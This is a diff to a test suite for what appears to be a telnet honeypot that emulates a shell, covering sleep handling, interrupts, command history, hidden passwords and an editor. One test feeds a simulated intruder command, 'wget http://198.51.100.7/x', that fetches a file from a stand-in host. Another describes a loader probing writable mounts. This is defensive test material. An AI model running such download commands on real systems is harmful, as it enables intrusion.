@@ -8,6 +8,7 @@ from eudaemon.protocols._base import Claim, HalfClosed
 from eudaemon.protocols.telnet import Telnet
 from eudaemon.protocols.telnet.iac import COMMANDS_MAX, SUBNEGOTIATION_BYTES_MAX
 from eudaemon.protocols.telnet.room import TRIES_MAX, WAITING_BYTES_MAX
+from eudaemon.protocols.telnet.terminal import HISTORY_LINES_MAX
 from eudaemon.testing.script import Table, play, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
@@ -181,6 +182,8 @@ def test_what_is_mounted_rw_can_be_written() -> None:
     refused = {path for path, answer in answered.items() if answer != b"kami" + path + b"\r\n"}
     assert refused <= {b"/proc", b"/sys", b"/dev/pts", b"/"}
     assert answered[b"/dev"] == b"kami/dev\r\n"
+    table.end()
+    assert table.kept == []  # that it could write is all that the loader wanted to know
 
 
 def test_the_elf_header_names_the_machine() -> None:
@@ -395,11 +398,11 @@ def test_a_half_closed_session_hears_its_answers_first() -> None:
 
 def test_what_was_written_is_kept_at_the_end() -> None:
     table = at_shell()
-    table.say(b"cd /tmp; echo -ne '\\x00\\x01' > a; echo -ne '\\x00\\x01' > b; echo c > c\r\n")
+    table.say(b"cd /tmp; echo -ne '\\x00\\x01' > a; echo -ne '\\x00\\x01' > b; echo -e 'c\\x02' > c\r\n")
     assert table.kept == []
     table.end()
     assert [(keep.name, keep.data, keep.origin) for keep in table.kept] == [
-        ("/tmp/a", b"\0\1", "upload"), ("/tmp/c", b"c\n", "upload"),
+        ("/tmp/a", b"\0\1", "upload"), ("/tmp/c", b"c\2\n", "upload"),
     ]  # fmt: skip
 
 
@@ -438,7 +441,7 @@ def test_too_much_typed_during_a_download() -> None:
     table.say(b"x" * WAITING_BYTES_MAX)
     assert not table.fault
     table.say(b"x")
-    assert "typed while a download is awaited" in table.fault
+    assert "typed while a command runs" in table.fault
 
 
 def test_a_full_purse_is_a_full_disk() -> None:
@@ -482,3 +485,81 @@ def test_a_new_password_is_not_shown() -> None:
     table.say(b"passwd\r\nhidden\r\nhidden\r\necho shown\r\n")
     assert b"hidden" not in table.sent
     assert table.sent.endswith(b"changed by root\r\n" + HOST.prompt + b"echo shown\r\nshown\r\n" + HOST.prompt)
+
+
+def test_a_sleep_is_waited_for_and_what_is_typed_meanwhile_follows() -> None:
+    table = at_shell()
+    prompt = HOST.prompt
+    assert table.say(b"echo a; sleep 5; echo b\r\n") == b"echo a; sleep 5; echo b\r\na\r\n"
+    assert table.say(b"echo c\r\n") == b""
+    before = len(table.sent)
+    table.wait(4.9)
+    assert len(table.sent) == before
+    table.wait(0.2)
+    assert table.sent[before:] == b"b\r\n" + prompt + b"echo c\r\nc\r\n" + prompt
+
+
+def test_a_sleep_can_be_interrupted() -> None:
+    table = at_shell()
+    table.say(b"sleep 5; echo never\r\n")
+    assert table.say(b"\x03").endswith(HOST.prompt)
+    table.wait(10)
+    table.say(b"wget http://198.51.100.7/x; echo then\r\n")
+    table.wait(10)
+    assert b"never" not in table.sent.replace(b"echo never", b"")
+    assert b"then\r\n" + HOST.prompt not in table.sent
+    table.answer("missing")
+    assert table.sent.endswith(b"then\r\n" + HOST.prompt)
+
+
+def test_who_leaves_while_a_command_sleeps_is_let_go_afterwards() -> None:
+    table = at_shell()
+    table.say(b"sleep 5; echo b\r\n")
+    table.tell(HalfClosed(table.at_s))
+    assert not table.over
+    table.wait(6)
+    assert table.over
+    assert table.sent.endswith(b"b\r\n" + HOST.prompt)
+
+
+UP, DOWN = b"\x1b[A", b"\x1b[B"
+
+
+@SPLITS
+def test_cursor_keys_bring_lines_back(split: int) -> None:
+    table = at_shell()
+    for line in (b"echo one\r\n", b"echo two\r\n", b"echo two\r\n", b"\r\n"):
+        table.say(line, split)
+    assert table.say(UP, split) == b"echo two"
+    assert table.say(UP, split) == b"\b \b" * 8 + b"echo one"
+    assert table.say(UP, split) == b""  # there is nothing before it
+    assert table.say(b"!\r\n", split) == b"!\r\none!\r\n" + HOST.prompt
+    table.say(UP + UP + DOWN + DOWN + b"echo new\r\n", split)
+    assert table.sent.endswith(b"echo new\r\nnew\r\n" + HOST.prompt)
+    table.say(b"x" * 300 + b"\r\n", split)
+    assert table.say(UP, split) == b"echo new"
+
+
+def test_how_many_lines_are_brought_back_and_that_they_are_paid_for() -> None:
+    table = at_shell()
+    before = table.room.visit.purse.bytes_taken
+    for number in range(HISTORY_LINES_MAX + 3):
+        table.say(b": %03d\r\n" % number)
+    table.say(UP * (HISTORY_LINES_MAX + 3))
+    assert table.sent.endswith(b": 003")
+    assert table.room.visit.purse.bytes_taken >= before + 5 * HISTORY_LINES_MAX
+
+
+def test_a_password_is_not_brought_back() -> None:
+    table = at_shell()
+    for line in (b"passwd\r\n", b"secret\r\n", b"secret\r\n"):
+        table.say(line)
+    assert table.say(UP) == b"passwd"
+
+
+def test_an_editor_is_left_as_it_is_left() -> None:
+    table = at_shell()
+    assert b"~\r\n~\r\n" in table.say(b"vi x\r\n")
+    assert not table.sent.endswith(HOST.prompt)
+    assert not table.say(b"ls\r\n").endswith(HOST.prompt)
+    assert table.say(b"\x1b:q!\r\n").endswith(HOST.prompt)
